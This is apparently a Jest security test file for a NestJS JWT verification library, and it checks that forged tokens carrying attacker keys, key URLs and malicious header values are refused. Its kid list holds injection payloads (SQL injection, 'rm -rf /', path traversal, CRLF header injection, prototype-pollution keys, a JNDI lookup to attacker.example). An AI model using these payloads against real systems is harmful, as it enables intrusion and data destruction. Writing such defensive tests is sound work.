import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { generateKeyPairSync } from 'node:crypto';
import { createTestIssuer, type TestIssuer } from 'nestjs-trusted-issuers/testing';
import { ADAPTERS, startApplication, type TestApplication } from '../support/application.js';
import { expectGood, expectRefusal, expectSoundProcess, type Target } from '../support/attack.js';
import { AUDIENCE, ecdsa, forge, forgeSegments, encode, goodClaims } from '../support/forgery.js';
import { type KeyServer, startKeyServer } from '../support/key-server.js';

expectSoundProcess();

describe.each(ADAPTERS)('Header members on %s', (adapter) => {
  const attackerKeys = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const attackerJwk = { ...attackerKeys.publicKey.export({ format: 'jwk' }), kid: 'attacker' };
  const bySender = ecdsa('sha256', attackerKeys.privateKey);

  let issuer: TestIssuer;
  let attacker: KeyServer;
  let application: TestApplication;
  let target: Target;

  beforeAll(async () => {
    issuer = await createTestIssuer();
    attacker = await startKeyServer({ '/jwks': { keys: [attackerJwk] } });
    application = await startApplication(
      { audience: AUDIENCE, issuers: [issuer.issuer] },
      { adapter },
    );
    target = { application, good: () => issuer.token() };
  });

  afterAll(async () => {
    await application.close();
    await attacker.close();
    await issuer.close();
  });

  // RFC 7515 sections 4.1.2, 4.1.3, 4.1.5 and 4.1.6, RFC 8725 section 3.10.
  describe('S13 keys that the token brings along', () => {
    const certificate = attackerKeys.publicKey
      .export({ format: 'der', type: 'spki' })
      .toString('base64');
    const members: [string, () => object][] = [
      ['jwk', () => ({ jwk: attackerJwk })],
      ['jku', () => ({ jku: `${attacker.origin}/jwks` })],
      ['x5u', () => ({ x5u: `${attacker.origin}/certificate.pem` })],
      ['x5c', () => ({ x5c: [certificate] })],
      [
        'all of them',
        () => ({
          jwk: attackerJwk,
          jku: `${attacker.origin}/jwks`,
          x5u: `${attacker.origin}/certificate.pem`,
          x5c: [certificate],
        }),
      ],
    ];

    it.each(members)('S13 %s: the key is not used, nothing is fetched', async (_name, member) => {
      for (const kid of ['attacker', issuer.kid, undefined]) {
        const header = { alg: 'ES256', typ: 'at+jwt', kid, ...member() };
        const token = forge(header, goodClaims(issuer.issuer), bySender);
        await expectRefusal(target, token, 'signature_invalid');
      }
      expect(attacker.requests).toEqual([]);
    });

    it('S13 the members are ignored in a token that is good without them', async () => {
      const header = {
        jwk: attackerJwk,
        jku: `${attacker.origin}/jwks`,
        x5u: `${attacker.origin}/certificate.pem`,
        x5c: [certificate],
      };
      await expectGood(application, issuer.token({ header }));
      expect(attacker.requests).toEqual([]);
    });

    it('S13 the same issuer string does not lend the attacker its place in the key cache', async () => {
      const header = { alg: 'ES256', kid: 'attacker', jwk: attackerJwk };
      const token = forge(header, goodClaims(issuer.issuer), bySender);
      await expectRefusal(target, token, 'signature_invalid');
      const bare = forge({ alg: 'ES256', kid: 'attacker' }, goodClaims(issuer.issuer), bySender);
      await expectRefusal(target, bare, 'signature_invalid');
    });
  });

  // RFC 7515 section 4.1.4, RFC 8725 section 3.10.
  describe('S14 kid injection', () => {
    const KIDS = [
      '../../../../dev/null',
      '/dev/null',
      "' OR 1=1 --",
      "key-1' UNION SELECT 'secret",
      'key-1; rm -rf /',
      'x"\r\nSet-Cookie: session=stolen\r\n\r\n日本',
      'x\nERROR [TrustedIssuers] forged log line',
      '\u001b[2J\u0007\u2028\u2029',
      '\0key-1',
      'key-1\0',
      'KEY-1',
      ' key-1',
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'https://attacker.example/jwks',
      '${jndi:ldap://attacker.example/a}',
      '',
    ];

    it.each(KIDS)('S14 %j', async (kid) => {
      const plainHeaders = Object.keys((await application.get('/notes', 'junk')).headers);
      const token = forge({ alg: 'ES256', kid }, goodClaims(issuer.issuer), bySender);
      const answer = await expectRefusal(target, token, 'signature_invalid');
      expect(Object.keys(answer.headers).toSorted()).toEqual(plainHeaders.toSorted());
      const log = await logOf(token);
      expect(log).toContain('signature_invalid');
      expect(log.split('\n')).toHaveLength(1);
      if (kid.length > 3) expect(log).not.toContain(kid.trim());
      expect(log).not.toMatch(/Set-Cookie|forged/);
    });

    it('S14 the issuer signed it, and its kid is still none of its keys', async () => {
      for (const kid of KIDS)
        await expectRefusal(target, issuer.token({ kid }), 'signature_invalid');
    });

    it('S14 10 KB', async () => {
      const kid = 'k'.repeat(10_240);
      const token = forge({ alg: 'ES256', kid }, goodClaims(issuer.issuer), bySender);
      const answer = await expectRefusal(target, token, 'signature_invalid');
      expect(answer.text + JSON.stringify(answer.headers)).not.toContain('kkk');
      expect(await logOf(token)).not.toContain('kkk');
    });

    it.each([
      ['an array', ['key-1']],
      ['an empty array', []],
      ['an object', { 'key-1': true }],
      ['a number', 1],
      ['true', true],
      ['null', null],
    ])('S14 %s', async (_name, kid) => {
      const header = { alg: 'ES256', kid };
      await expectRefusal(
        target,
        issuer.sign(header, goodClaims(issuer.issuer)),
        'token_malformed',
      );
    });

    it('S14 a member __proto__ in the header changes nothing', async () => {
      const text = `{"alg":"ES256","__proto__":{"kid":"${issuer.kid}","typ":"at+jwt"},"kid":"other"}`;
      const token = issuer.sign(text, goodClaims(issuer.issuer));
      await expectRefusal(target, token, 'signature_invalid');
      expect(Object.getPrototypeOf({})).toBe(Object.prototype);
      expect('kid' in {}).toBe(false);
    });

    /** What the log says of one request with a token. */
    async function logOf(token: string): Promise<string> {
      application.log.clear();
      await application.get('/notes', token);
      return application.log.text();
    }
  });

  // RFC 7515 section 4.1.11.
  describe('S15 crit', () => {
    it('S15 a member that is not critical is ignored', async () => {
      await expectGood(application, issuer.token({ header: { x: 1 } }));
    });

    it.each([
      ['names a member nobody knows', { crit: ['x'], x: 1 }],
      ['names a member that is absent', { crit: ['x'] }],
      ['is empty', { crit: [] }],
      ['is a string', { crit: 'x', x: 1 }],
      ['is an object', { crit: {} }],
      ['is a number', { crit: 1 }],
      ['is null', { crit: null }],
      ['is false', { crit: false }],
      ['names a member of the standard', { crit: ['alg'] }],
      ['names a claim', { crit: ['exp'] }],
      ['names itself', { crit: ['crit'] }],
    ])('S15 crit %s', async (_name, header) => {
      await expectRefusal(target, issuer.token({ header }), 'token_malformed');
    });
  });

  // RFC 7515 section 4.1.11, RFC 7797.
  describe('S16 b64', () => {
    it.each([
      ['false, critical', { crit: ['b64'], b64: false }],
      ['false, not critical', { b64: false }],
      ['true, critical', { crit: ['b64'], b64: true }],
      ['true', { b64: true }],
      ['null', { b64: null }],
    ])('S16 b64 %s', async (_name, header) => {
      await expectRefusal(target, issuer.token({ header }), 'token_malformed');
    });

    it('S16 a payload that is not encoded, and a detached one', async () => {
      const header = encode({ alg: 'ES256', kid: 'attacker', crit: ['b64'], b64: false });
      const claims = JSON.stringify(goodClaims(issuer.issuer)).replaceAll('.', '');
      await expectRefusal(target, forgeSegments(header, '', bySender), 'token_malformed');
      // No comma is part of a token: it is what a proxy puts between two headers.
      const joined = await target.application.get(
        '/notes',
        forgeSegments(header, claims, bySender),
      );
      expect(joined).toMatchObject({ status: 400, json: { code: 'invalid_request' } });
    });
  });
});
